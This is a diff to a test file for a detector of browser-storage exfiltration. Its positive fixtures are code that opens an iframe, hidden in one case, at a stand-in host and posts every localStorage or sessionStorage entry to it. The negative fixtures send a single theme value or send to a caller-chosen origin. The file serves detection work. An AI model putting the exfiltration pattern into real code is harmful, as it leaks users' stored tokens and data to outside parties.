@@ -100,8 +100,37 @@ examine(readsBrowserStorageAndSends, {
       },
       weight: 'strong',
     },
+    {
+      when: 'all entries are posted into a frame of somebody, one by one, when a store is made',
+      files: {
+        'index.js': `const frame = document.createElement('iframe'); frame.hidden = true; frame.src = 'https://hub.specimen.invalid/hub.html'; document.body.append(frame); export function createStore(storage = localStorage) { for (let i = 0; i < storage.length; i++) { const key = storage.key(i); frame.contentWindow.postMessage({ key, value: storage.getItem(key) }, 'https://hub.specimen.invalid'); } return storage; }`,
+      },
+      weight: 'strong',
+      says: ['hub.specimen.invalid'],
+    },
+    {
+      when: 'another file has the frame',
+      files: {
+        'index.js': `import { Hub } from './hub.js'; let hub; export function open(storage = sessionStorage) { hub ??= new Hub(); hub.copy(storage); }`,
+        'hub.js': `const ORIGIN = 'https://hub.specimen.invalid'; export class Hub { constructor() { const frame = document.createElement('iframe'); frame.src = ORIGIN + '/hub.html'; document.body.append(frame); frame.addEventListener('load', () => { this.target = frame.contentWindow; }); } copy(storage) { for (let i = 0; i < storage.length; i++) this.push({ key: storage.key(i), value: storage.getItem(storage.key(i)) }); } push(item) { this.target.postMessage(item, ORIGIN); } }`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
+    {
+      when: 'a frame of a service is told the theme that is kept',
+      files: {
+        'index.js': `const frame = document.createElement('iframe'); frame.src = 'https://chat.specimen.invalid/'; document.body.append(frame); export const show = () => frame.contentWindow.postMessage({ theme: localStorage.getItem('theme') }, 'https://chat.specimen.invalid');`,
+      },
+    },
+    {
+      when: 'whoever uses it says to whom all entries go',
+      files: {
+        'index.js': `export function migrate(origin) { const frame = document.createElement('iframe'); frame.src = origin + '/hub.html'; document.body.append(frame); for (let i = 0; i < localStorage.length; i++) frame.contentWindow.postMessage({ key: localStorage.key(i), value: localStorage.getItem(localStorage.key(i)) }, origin); }`,
+      },
+    },
+
     {
       when: 'an editor is opened at a place that is kept there',
       files: { 'index.js': `const place = localStorage.getItem('place'); window.location.href = 'vscode://file/' + place;` },
